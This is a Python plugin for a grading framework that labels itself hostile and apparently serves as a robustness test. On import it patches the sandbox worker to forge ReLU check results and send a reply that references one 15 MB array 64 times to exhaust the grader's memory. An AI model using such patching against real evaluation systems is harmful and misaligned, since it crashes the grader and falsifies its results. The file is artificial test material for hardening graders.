"""Hostile: the worker's answer names one 15 MB array 64 times, within the answer's size
limit, to exhaust the grader's memory rather than its own. Only relu's checks are forged."""

import io
import json
import sys

import numpy as np

import gradekit

REFS = 64
ARMED = [False]  # set while the check in progress is one of relu's


def _patch(module):
    real = getattr(module, "answer", None)
    if real is None or getattr(real, "hostile", False):
        return

    def answer(out, name, outcome):
        if not ARMED[0]:
            return real(out, name, outcome)
        ARMED[0] = False
        records = io.BytesIO()
        np.lib.format.write_array(records, np.ones((15 << 20) // 8 - 16), allow_pickle=False)
        many = {"t": "list", "v": [{"t": "array", "index": 0}] * REFS}
        values = {next(iter(outcome.values), "y"): many}  # one value: 1 GB at most
        document = json.dumps({"values": values, "arrays": 1, "failure": None}).encode()
        head = {"done": name, "json": len(document), "records": len(records.getvalue())}
        out.write(json.dumps(head).encode() + b"\n" + document + records.getvalue())
        out.flush()

    answer.hostile = True
    module.answer = answer


for _name in ("__main__", "gradekit.sandbox.worker"):
    if _name in sys.modules:
        _patch(sys.modules[_name])


class ReLU:
    def __init__(self):
        self.params, self.grads = {}, {}
        ARMED[0] = True

    def forward(self, x, *, training=True):
        self.x = x
        return np.maximum(x, 0.0)

    def backward(self, dout):
        return dout * (self.x > 0)


class Tanh:
    """Honest."""

    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x, *, training=True):
        self.y = np.tanh(x)
        return self.y

    def backward(self, dout):
        return dout * (1 - self.y**2)


class Linear:
    """Honest."""

    def __init__(self, din, dout, weight_init=None, rng=None):
        rng = rng if rng is not None else np.random.default_rng(0)
        self.params = {"W": rng.standard_normal((din, dout)) / np.sqrt(din), "b": np.zeros(dout)}
        self.grads = {}

    def forward(self, x, *, training=True):
        self.x = x
        return x @ self.params["W"] + self.params["b"]

    def backward(self, dout):
        self.grads = {"W": self.x.T @ dout, "b": dout.sum(axis=0)}
        return dout @ self.params["W"].T


@gradekit.hookimpl
def gradekit_register(registry):
    registry.activations["tanh"] = Tanh
    registry.layers["linear"] = Linear
    registry.activations["relu"] = ReLU
